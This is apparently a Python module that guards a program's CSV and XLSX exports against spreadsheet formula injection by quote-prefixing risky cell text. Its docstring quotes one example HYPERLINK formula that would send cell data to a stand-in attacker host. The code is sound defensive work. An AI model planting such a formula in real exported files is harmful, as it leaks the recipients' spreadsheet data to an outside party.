"""Cells of every file we export (XLSX and CSV): text stays text, never a live formula.

A unit name or a Telegram display name such as `=HYPERLINK("http://evil.example/?q="&B3,"A")`
must not come back as a formula in the secretariat's spreadsheet (OWASP: CSV injection). Text
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (after any spaces) is
neutralised: in CSV with a leading apostrophe, in XLSX as a text cell with Excel's own
"quote prefix" (what typing a leading apostrophe does; the value is kept as it is). Numbers stay
numbers, and text that is only a number ("-5", "+3,5%") is left alone: it cannot run anything.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from decimal import Decimal
from typing import Any

RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,]*%?")

CsvValue = str | int | float | Decimal


def is_risky(text: str) -> bool:
    """True when a spreadsheet could read the text as a formula."""
    if _PLAIN_NUMBER.fullmatch(text):
        return False
    return text.startswith(RISKY_STARTS) or text.lstrip(" ").startswith(RISKY_STARTS)


def neutralise(text: str) -> str:
    """The text with a leading apostrophe if a spreadsheet could read it as a formula."""
    return QUOTE + text if is_risky(text) else text


def restore(text: str) -> str:
    """Undo `neutralise` when reading one of our own files back (e.g. the units CSV)."""
    if text.startswith(QUOTE) and is_risky(text[1:]):
        return text[1:]
    return text


def csv_value(value: object) -> CsvValue:
    """One CSV field: numbers as they are, None as empty, anything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    return neutralise(str(value))


def csv_row(values: Iterable[object]) -> list[CsvValue]:
    """A CSV row with every text field neutralised."""
    return [csv_value(v) for v in values]


def csv_record(record: Mapping[str, object]) -> dict[str, CsvValue]:
    """A csv.DictWriter record with every text field neutralised."""
    return {key: csv_value(value) for key, value in record.items()}


def mark_text(cell: Any) -> None:
    """An openpyxl cell holding a str becomes text (never a formula), quote-prefixed if risky."""
    value = cell.value
    if not isinstance(value, str):
        return
    cell.data_type = "s"
    if is_risky(value):
        cell.quotePrefix = True


def append_row(ws: Any, values: Iterable[object]) -> None:
    """`ws.append(values)`, with every str written as text, never as a formula."""
    row = list(values)
    ws.append(row)
    # The row just appended; `max_row` would scan every cell of the sheet (quadratic: 10,000
    # rows took 45 s). openpyxl keeps the appended row's number in `_current_row`.
    number = getattr(ws, "_current_row", None) or ws.max_row
    for column, value in enumerate(row, start=1):
        if isinstance(value, str):
            mark_text(ws.cell(row=number, column=column))
